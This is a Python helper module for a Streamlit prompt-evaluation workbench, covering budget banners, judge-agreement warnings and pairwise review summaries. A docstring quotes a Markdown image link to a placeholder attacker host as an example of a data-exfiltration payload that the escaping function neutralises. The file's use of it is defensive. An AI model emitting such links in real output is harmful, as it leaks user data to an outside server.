"""Small helpers shared by the pages (UI only: no SQL, no litellm)."""

from __future__ import annotations

import streamlit as st

from workbench import config  # noqa: F401  (offline switches before anything heavy)


def page_setup(title: str, icon: str = "🧪") -> None:
    st.set_page_config(page_title=f"{title} · Prompt Workbench", page_icon=icon, layout="wide")
    budget_banner()


def budget_banner() -> None:
    """A warning on every page once spend passes the budget set on the Dashboard."""
    from workbench import dashboard

    status = dashboard.budget_status()
    if status and status["exceeded"]:
        st.warning(
            f"Spend this {status['period']} is ${status['spent']:,.2f}, over the "
            f"${status['limit']:,.2f} budget (month projected at ${status['projected_month']:,.2f}). "
            "See the Dashboard.",
            icon="💸",
        )


def show_error(exc: Exception) -> None:
    st.error(str(exc))


def md_text(text) -> str:
    """Untrusted text (a model's answer, a row key, a provider's error) inside Markdown, shown as
    typed: Markdown and HTML syntax are escaped, so `![](http://attacker/?d=...)` stays text and
    the browser fetches nothing. Known secret values are masked too."""
    import re

    from workbench import secrets

    return re.sub(r"([\\`*_\[\]()<>#|~$!{}])", r"\\\1", str(secrets.mask(str(text))))


@st.cache_data(show_spinner=False, max_entries=16)
def _poor_judges(names: tuple[str, ...], stamp: tuple[int, int]) -> dict[str, str]:
    from workbench import review

    return review.poor_judges(names)


def judge_warning(scorer_names) -> None:
    """One line per shown judge scorer that agrees poorly with people on reviewed rows (see Scorers)."""
    from workbench import review

    names = tuple(sorted({str(n) for n in scorer_names if n}))
    if not names:
        return
    for name, why in _poor_judges(names, review.stamp()).items():
        st.warning(
            f"Judge {name!r} agrees poorly with your reviewers ({why}): read its scores with care. "
            "See the Scorers page.",
            icon="⚖️",
        )


@st.cache_data(show_spinner=False, max_entries=4)
def judge_calibrations(stamp: tuple[int, int]) -> list[dict]:
    """Every judge's agreement with every queue's reviewers, with intervals (bootstrap): cached on the stamp."""
    from workbench import review

    return review.calibrations()


def human_pairwise(run_ids) -> list[str]:
    """People's pairwise verdicts (Review page) on variants of these runs, one sentence each."""
    from workbench import review

    lines = []
    for entry in review.pairwise_for_runs(run_ids):
        rate = entry["rate"]
        if rate.win_rate is None:
            continue
        lines.append(
            f"People (review queue {entry['queue']}) prefer {entry['b']} over {entry['a']} "
            f"{rate.win_rate:.0%} of the time (95% CI {rate.ci_low:.0%}–{rate.ci_high:.0%}, ties half, "
            f"n={rate.counts['n']}: B {rate.counts['B']} / A {rate.counts['A']} / tie {rate.counts['tie']})."
        )
    return lines
